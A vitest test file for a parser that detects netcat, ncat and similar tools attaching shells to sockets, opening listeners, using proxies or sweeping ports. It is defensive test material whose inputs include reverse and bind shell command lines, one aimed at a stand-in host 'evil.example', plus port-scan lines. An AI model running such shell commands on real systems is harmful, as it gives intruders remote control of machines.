import { describe, expect, it } from 'vitest';
import type { ArgumentContext } from '../../../src/detect/invocation.ts';
import { parse, peersOf } from './support.ts';

const NAMES: Record<string, Partial<ArgumentContext>> = {
  union: { invoked_as: 'nc' },
  traditional: { invoked_as: '/bin/nc.traditional' },
  openbsd: { invoked_as: 'nc.openbsd' },
  busybox: { invoked_as: 'nc', multi_call: 'busybox' },
  toybox: { invoked_as: 'nc', multi_call: 'toybox' },
};

function attached(dialect: string, line: string): string[] {
  return parse('netcat', line, NAMES[dialect]).attached.map((entry) => `${entry.option} ${entry.program}`);
}

describe('netcat: a program on the connection', () => {
  it.each([
    ['union', '-e /bin/sh x.localhost.evil.example 1', ['-e /bin/sh']],
    ['union', '127.0.0.1 9 -e sh', ['-e sh']],
    ['union', '-e/bin/sh h 1', ['-e /bin/sh']],
    ['union', '-nve /bin/sh h 1', ['-e /bin/sh']],
    ['union', '-vc bash h 1', ['-c bash']],
    ['union', "-c '/bin/sh -i' h 1", ['-c /bin/sh -i']],
    ['union', '-vcbash h 1', ['-c bash']],
    ['union', '-nlvp 4444 -e sh', ['-e sh']],
    ['union', 'h 1 -e sh -i', ['-e sh -i']],
    ['union', 'h 1 -e busybox sh -l', ['-e busybox sh -l']],
    ['union', '-p 1 -L sh', ['COMMAND sh']],
    ['union', '-lp 1 /bin/sh -i', ['COMMAND /bin/sh']],
    ['union', '-c host 443', []],
    ['union', '-c shop.example 443', []],
    ['union', '-cv h 1', []],
    ['union', '-z h 1', []],
    ['union', '-lvpe 4444', []],
    ['traditional', '-c id h 1', ['-c id']],
    ['traditional', '-lvnp4444 -e /bin/sh', ['-e /bin/sh']],
    ['openbsd', '-c h 1', []],
    ['busybox', 'h 1 -e sh -i', ['-e sh -i']],
    ['busybox', '-lk -p 1 -e echo A B -n C', ['-e echo A B -n C']],
    ['busybox', '-ll -p 1 -e sh', ['-e sh']],
    ['toybox', '-s 0.0.0.0 -p 1234 -tL sh -l', ['COMMAND sh -l']],
    ['toybox', '-p 1 -L sh', ['COMMAND sh']],
    ['toybox', 'h 1', []],
  ])('%s: nc %s', (dialect, line, expected) => {
    expect(attached(dialect, line)).toEqual(expected);
  });

  it('options behind busybox’s -e belong to the program', () => {
    expect(parse('netcat', 'h 1 -e sh -l', NAMES.busybox).listen).toBeUndefined();
    expect(parse('netcat', 'h 1 -e sh -l', NAMES.union).listen).toBeUndefined();
  });
});

describe('netcat: a listener', () => {
  it.each([
    ['union', '-lvnp4444', { address: '', port: '4444' }],
    ['union', '-lp 4444', { address: '', port: '4444' }],
    ['union', '-l 4444', { address: '', port: '4444' }],
    ['union', '-l 127.0.0.1 4444', { address: '127.0.0.1', port: '4444' }],
    ['union', '-l 0.0.0.0 4444', { address: '0.0.0.0', port: '4444' }],
    ['union', '-lvp 45106 -s h.example', { address: 'h.example', port: '45106' }],
    ['union', '-lvpe', { address: '', port: 'e' }],
    ['union', '-lk 8080', { address: '', port: '8080', persistent: true }],
    ['openbsd', '-lk 8080', { address: '', port: '8080', persistent: true }],
    ['busybox', '-ll -p 1 -e sh', { address: '', port: '1', persistent: true }],
    ['toybox', '-p 1 -L sh', { address: '', port: '1', persistent: true }],
    ['union', '-lU /tmp/s', { address: '/tmp/s' }],
  ])('%s: nc %s', (dialect, line, expected) => {
    expect(parse('netcat', line, NAMES[dialect]).listen).toEqual(expected);
  });

  it('a source port is none', () => {
    expect(parse('netcat', '-p 4444 h 1').listen).toBeUndefined();
    expect(peersOf(parse('netcat', '-p 4444 h 1'))).toEqual(['connect internal h 1']);
  });
});

describe('netcat: where to', () => {
  it.each([
    ['union', '-w 2 127.0.0.1 2181', ['connect loopback 127.0.0.1 2181']],
    ['union', '-z -w 1 127.0.0.1 5432 s008.lab.invalid', ['connect loopback 127.0.0.1 5432']],
    ['union', 'h 1 -z -v', ['connect internal h 1']],
    [
      'union',
      '-X 5 -x 198.51.100.9:1080 internal.example 22',
      ['connect public_name internal.example 22', 'proxy public_ip 198.51.100.9 1080'],
    ],
    [
      'openbsd',
      '-x 198.51.100.9:1080 localhost 22',
      ['connect loopback localhost 22', 'proxy public_ip 198.51.100.9 1080'],
    ],
    ['union', '-U /run/x.sock', ['connect unix /run/x.sock']],
    ['union', '-L 203.0.113.9:80 -p 1', ['connect public_ip 203.0.113.9 80', 'listen any  1']],
    ['union', '::1 80', ['connect loopback ::1 80']],
  ])('%s: nc %s', (dialect, line, expected) => {
    expect(peersOf(parse('netcat', line, NAMES[dialect]))).toEqual(expected);
  });

  it('a proxy redirects', () => {
    expect(parse('netcat', '-x h:1 localhost 22').redirects).toEqual([{ option: '-x', value: 'h:1' }]);
  });

  it.each([
    ['-zvn -w1 10.0.0.5 1-1024', true],
    ['-z 10.0.0.5 22 80 443', true],
    ['-z 10.0.0.0/24 22', true],
    ['-z 10.0.0.5 22', false],
    ['-z 10.0.0.5 22 80', false],
    ['-z my-host 22', false],
    ['-z 127.0.0.1 80-80', false],
  ])('nc %s is a sweep: %s', (line, expected) => {
    expect(parse('netcat', line).sweep !== undefined).toBe(expected);
  });
});

describe('netcat: nothing happens', () => {
  it.each([
    ['', 'no_operand'],
    ['-h', 'help'],
    ['-h s014.lab.invalid', 'help'],
    ['--help', 'help'],
    ['-V', 'version'],
    ['--version', 'version'],
    ['-v', 'no_operand'],
  ])('nc %s is %s', (line, inert) => {
    expect(parse('netcat', line).inert).toBe(inert);
  });
  it('but -h of the attached program is not the tool’s', () => {
    expect(parse('netcat', 'h 1 -e sh -h', NAMES.busybox).inert).toBeUndefined();
  });
});

describe('ncat', () => {
  it.each([
    ['--sh-ex sh h 1', ['--sh-ex sh']],
    ['--exec=sh h 1', ['--exec sh']],
    ["--sh-exec 'bash -i' --ssl h 443", ['--sh-exec bash -i']],
    ['-c sh h 1', ['-c sh']],
    ['-vesh h 1', ['-e sh']],
    ['--lua-exec /var/tmp/s.lua h 53', ['--lua-exec /var/tmp/s.lua']],
    ['h 1', []],
  ])('%s attaches %s', (line, expected) => {
    expect(parse('ncat', line).attached.map((entry) => `${entry.option} ${entry.program}`)).toEqual(expected);
  });
  it.each([
    ['-lk 8080', { address: '', port: '8080', persistent: true }],
    ['--listen --keep-open -p 8443', { address: '', port: '8443', persistent: true }],
    ['-l', { address: '', port: '31337' }],
    ['-l 127.0.0.1', { address: '127.0.0.1', port: '31337' }],
    ['--broker 127.0.0.1 99', { address: '127.0.0.1', port: '99', persistent: true }],
  ])('%s listens', (line, expected) => {
    expect(parse('ncat', line).listen).toEqual(expected);
  });
  it('goes through proxies and says so', () => {
    const invocation = parse(
      'ncat',
      '--proxy 203.0.113.9:1080 --proxy-type socks5 --proxy-auth u:p localhost 22',
    );
    expect(peersOf(invocation)).toEqual([
      'connect loopback localhost 22',
      'proxy public_ip 203.0.113.9 1080',
    ]);
    expect(invocation).toMatchObject({ redirects: [{ option: '--proxy' }], credentials: ['--proxy-auth'] });
  });
  it.each([
    ['--version', 'version'],
    ['-h', 'help'],
    ['', 'no_operand'],
  ])('%s is %s', (line, inert) => {
    expect(parse('ncat', line).inert).toBe(inert);
  });
});

describe('netcat’s cousins', () => {
  it.each([
    ['cryptcat', '-k secret -e /bin/sh 203.0.113.9 1', ['connect public_ip 203.0.113.9 1'], '/bin/sh'],
    ['sbd', '-l -p 1 -e bash -k x', ['listen any  1'], 'bash'],
    ['pwncat', '-e /bin/sh 203.0.113.9 1', ['connect public_ip 203.0.113.9 1'], '/bin/sh'],
    ['socket', '-s -p /bin/sh 1', ['listen any  1'], '/bin/sh'],
    ['socket', '-p sh 203.0.113.9 1', ['connect public_ip 203.0.113.9 1'], 'sh'],
    ['websocat', 'exec:sh ws://203.0.113.9:1/', ['connect public_ip 203.0.113.9 1'], 'sh'],
    ['websocat', "ws-l:0.0.0.0:1 'sh-c:sh -i'", ['listen any 0.0.0.0 1'], 'sh -i'],
    ['tcpsvd', '0.0.0.0 1 ftpd -w', ['listen any 0.0.0.0 1'], 'ftpd -w'],
  ])('%s %s', (tool, line, peers, program) => {
    const invocation = parse(tool, line);
    expect(peersOf(invocation)).toEqual(peers.map((peer) => peer.trim()));
    expect(invocation.attached).toMatchObject([{ program, on_socket: true }]);
    expect(invocation.tool).toBe(tool);
  });
});
